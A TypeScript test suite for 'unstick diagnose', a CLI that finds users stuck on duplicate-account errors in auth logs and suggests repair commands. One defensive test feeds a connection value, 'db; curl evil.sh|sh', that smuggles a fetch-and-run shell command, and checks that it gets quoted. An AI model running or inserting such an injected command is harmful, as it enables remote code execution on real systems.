import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';

const STUCK = ['jane.doe@acme.com', 'li.wei@acme.com', 'marco.rossi@acme.com', 'olga.ivanova@acme.com', 'raj.patel@acme.com', 'sam.okafor@acme.com', 'tom.berg@acme.com'];

describe('unstick diagnose --json on examples/logs', () => {
  it('finds exactly the stuck users of the example story, with the documented shape', async () => {
    const { code, stdout, stderr } = await runCli(['diagnose', 'examples/logs', '--json']);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const doc = JSON.parse(stdout);
    expect(doc.findings.map((f: { email: string }) => f.email).sort()).toEqual(STUCK);
    const jane = doc.findings.find((f: { email: string }) => f.email === 'jane.doe@acme.com');
    expect(Object.keys(jane)).toEqual(['email', 'kinds', 'occurrences', 'firstSeen', 'lastSeen', 'connections', 'evidence', 'next']);
    expect(jane.kinds).toEqual(['DUPLICATED_USER', 'USER_ALREADY_EXISTS']);
    expect(jane.lastSeen).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(jane.evidence[0].source).toMatch(/^examples\/logs\/[\w.-]+:\d+$/);
    expect(jane.next).toBe('unstick repair jane.doe@acme.com --connection legacy-db');
    expect(doc.findings.find((f: { email: string }) => f.email === 'tom.berg@acme.com').kinds).toEqual(['EMAIL_CHANGE_CONFLICT']);
    expect(doc.inFileDuplicates.map((x: { email: string }) => x.email)).toEqual(['nina.kowalski@acme.com']);
    expect(doc.stats).toMatchObject({ malformed: 0, users: STUCK.length });
    expect(doc.stats.records).toBeGreaterThan(50);
    expect(Object.keys(doc.stats.formats).sort()).toEqual(
      ['actions-json', 'bunyan', 'cli-json', 'eventbridge', 'import-errors', 'log-stream', 'management-api', 'text'].sort(),
    );
  });

  it('--since/--until keep only evidence in the window (undated evidence is kept)', async () => {
    const since = '2024-05-02T12:00:00.000Z';
    const until = '2024-05-02T12:30:00.000Z';
    const doc = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--since', since, '--until', until])).stdout);
    const all = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json'])).stdout);
    const evidence = doc.findings.flatMap((f: { evidence: Array<{ time: string | null }> }) => f.evidence);
    expect(evidence.length).toBeGreaterThan(0);
    for (const e of evidence) if (e.time !== null) expect(e.time >= since && e.time <= until).toBe(true);
    const count = (d: { findings: Array<{ occurrences: number }> }) => d.findings.reduce((n, f) => n + f.occurrences, 0);
    expect(count(doc)).toBeLessThan(count(all));
  });

  it('--connection keeps that connection and events that name none', async () => {
    const other = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--connection', 'other-db'])).stdout);
    for (const f of other.findings) expect(f.connections).toEqual([]);
    const byName = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--connection', 'legacy-db'])).stdout);
    expect(byName.findings.map((f: { email: string }) => f.email).sort()).toEqual(STUCK);
  });
});

describe('unstick diagnose output modes', () => {
  it('--csv has one row per user with email first: the batch-repair input', async () => {
    const { code, stdout } = await runCli(['diagnose', 'examples/logs', '--csv']);
    expect(code).toBe(0);
    const rows = parse(stdout, { columns: true }) as Array<Record<string, string>>;
    expect(stdout.split('\n')[0]).toBe('email,kinds,occurrences,first_seen,last_seen,connections,next_command');
    expect(rows.map((r) => r.email).sort()).toEqual(STUCK);
    expect(rows.find((r) => r.email === 'jane.doe@acme.com')!.kinds).toBe('DUPLICATED_USER;USER_ALREADY_EXISTS');
  });

  it('human output: a table, the in-file duplicate note and a summary; no color when piped', async () => {
    const { code, stdout } = await runCli(['diagnose', 'examples/logs', '--tz', 'Europe/Paris']);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^EMAIL\s+KINDS\s+SEEN\s+LAST SEEN\s+NEXT/);
    expect(stdout).toContain('unstick repair jane.doe@acme.com --connection legacy-db');
    expect(stdout).toContain('+02:00'); // Paris summer time
    expect(stdout).toContain('nina.kowalski@acme.com appears more than once in one import file');
    expect(stdout).toMatch(/7 stuck users; read \d+ records from 15 inputs/);
    expect(stdout).not.toContain('\u001b[');
  });

  it('colors on a terminal, and honours NO_COLOR there', async () => {
    const colored = await runCli(['diagnose', 'examples/logs'], { tty: true, env: { PATH: process.env.PATH } });
    expect(colored.stdout).toContain('\u001b[');
    const plain = await runCli(['diagnose', 'examples/logs'], { tty: true, env: { PATH: process.env.PATH, NO_COLOR: '1' } });
    expect(plain.stdout).not.toContain('\u001b[');
    const flag = await runCli(['diagnose', 'examples/logs', '--no-color'], { tty: true, env: { PATH: process.env.PATH } });
    expect(flag.stdout).not.toContain('\u001b[');
  });

  it('reads stdin with "-", gzip included', async () => {
    const line = JSON.stringify({ log_id: '1', data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: 'Pat@Acme.com ', connection: 'legacy-db' } });
    const { code, stdout } = await runCli(['diagnose', '-', '--json'], { stdin: gzipSync(`${line}\n`) });
    expect(code).toBe(0);
    expect(JSON.parse(stdout).findings[0]).toMatchObject({ email: 'pat@acme.com', evidence: [{ source: '-:1' }] });
  });

  it('malformed records are warned about on stderr with file:line, and the run still succeeds', async () => {
    const { code, stdout, stderr } = await runCli(['diagnose', 'test/fixtures/logs/truncated-last-line.jsonl', '--json']);
    expect(code).toBe(0);
    expect(stderr).toBe('warning: test/fixtures/logs/truncated-last-line.jsonl:3: malformed record (truncated: the input ends inside it); skipped\n');
    expect(JSON.parse(stdout).stats.malformedSamples).toEqual([{ source: 'test/fixtures/logs/truncated-last-line.jsonl:3', reason: 'truncated: the input ends inside it' }]);
  });
});

describe('unstick diagnose errors: one line, a documented exit code, no stack', () => {
  it('64 for bad usage', async () => {
    for (const argv of [
      ['diagnose', 'examples/logs', '--json', '--csv'],
      ['diagnose', 'examples/logs', '--since', 'yesterday-ish'],
      ['diagnose', 'examples/logs', '--tz', 'Mars/Olympus'],
      ['diagnose', 'examples/logs', '--format', 'xml'],
      ['diagnose'],
      ['nope'],
    ]) {
      const { code, stderr, stdout } = await runCli(argv);
      expect({ argv, code }).toEqual({ argv, code: 64 });
      expect(stdout).toBe('');
      expect(stderr.split('\n')[0]).toMatch(/^error: /);
      expect(stderr).not.toMatch(/\n\s+at /);
    }
    const since = await runCli(['diagnose', 'examples/logs', '--since', 'yesterday-ish']);
    expect(since.stderr).toContain('--since: expected an ISO 8601 time');
  });

  it('66 when an input does not exist', async () => {
    const { code, stderr } = await runCli(['diagnose', 'missing.jsonl']);
    expect(code).toBe(66);
    expect(stderr).toBe('error: missing.jsonl: no such file or directory\n');
  });

  it('65 when no input is a log, with one error line and a hint; a stack only with --debug', async () => {
    const { code, stderr } = await runCli(['diagnose', 'test/fixtures/logs/binary.bin']);
    expect(code).toBe(65);
    expect(stderr).toBe(
      'error: test/fixtures/logs/binary.bin: binary data, not a log\nhint: see docs/log-formats.md for the formats unstick reads, or force one with --format\n',
    );
    expect(stderr).not.toMatch(/\n\s+at /);
    const debug = await runCli(['diagnose', 'test/fixtures/logs/binary.bin', '--debug']);
    expect(debug.code).toBe(65);
    expect(debug.stderr).toMatch(/\n\s+at /);
  });
});

describe('hostile and awkward input', () => {
  it('quotes log-controlled text in the suggested command', async () => {
    const record = { log_id: '1', data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: "o'hara@acme.com", connection: 'db; curl evil.sh|sh\u0007' } };
    const { stdout } = await runCli(['diagnose', '-', '--json'], { stdin: `${JSON.stringify(record)}\n` });
    expect(JSON.parse(stdout).findings[0].next).toBe(`unstick repair 'o'\\''hara@acme.com' --connection 'db; curl evil.sh|sh'`);
  });
});

describe('the installed CLI (bin/unstick.js, built by pretest)', () => {
  const bin = path.resolve('bin/unstick.js');
  const exec = (args: string[], input?: string) =>
    spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8', input, env: { ...process.env, NO_COLOR: '1' } });

  it('--version, --help list the commands, exit codes pass through', () => {
    const version = exec(['--version']);
    expect(version.status).toBe(0);
    expect(version.stdout.trim()).toBe(JSON.parse(readFileSync('package.json', 'utf8')).version);
    const help = exec(['--help']);
    expect(help.status).toBe(0);
    expect(help.stdout).toMatch(/diagnose \[options\] <inputs\.\.\.>/);
    expect(exec(['diagnose', 'missing.jsonl']).status).toBe(66);
  });

  it('stops quietly when the reader of its output goes away (| head)', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'unstick-pipe-'));
    const file = path.join(dir, 'many.jsonl');
    const lines = Array.from({ length: 20000 }, (_, i) =>
      JSON.stringify({ log_id: String(i), data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: `user${i}@acme.com` } }),
    );
    writeFileSync(file, lines.join('\n') + '\n');
    const r = spawnSync('sh', ['-c', `"${process.execPath}" "${bin}" diagnose "${file}" --csv | head -1`], { encoding: 'utf8' });
    expect(r.stdout).toBe('email,kinds,occurrences,first_seen,last_seen,connections,next_command\n');
    expect(r.stderr).toBe('');
  });

  it('diagnoses a large line-delimited file with worker threads exactly like in-process', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'unstick-cli-'));
    const file = path.join(dir, 'big.jsonl');
    const lines: string[] = [];
    // Over the 64 MB parallel threshold, so the built CLI splits it between workers.
    const pad = 'x'.repeat(1000);
    for (let i = 0; lines.length * 1100 < 70e6; i++) {
      const stuck = i % 20000 === 0;
      lines.push(JSON.stringify({ log_id: String(i), data: { date: '2024-05-02T10:00:00Z', type: stuck ? 'fs' : 's', description: stuck ? 'The user already exists.' : 'Successful login', user_name: `u${i}@acme.com`, pad } }));
    }
    writeFileSync(file, lines.join('\n') + '\n');
    const r = exec(['diagnose', file, '--json']);
    expect(r.status).toBe(0);
    const doc = JSON.parse(r.stdout);
    expect(doc.stats.records).toBe(lines.length);
    const expected = lines.map((l, i) => [l, i + 1] as const).filter(([l]) => l.includes('already exists'));
    expect(doc.findings.map((f: { evidence: Array<{ source: string }> }) => f.evidence[0]!.source).sort()).toEqual(
      expected.map(([, line]) => `${file}:${line}`).sort(),
    );
  });
});
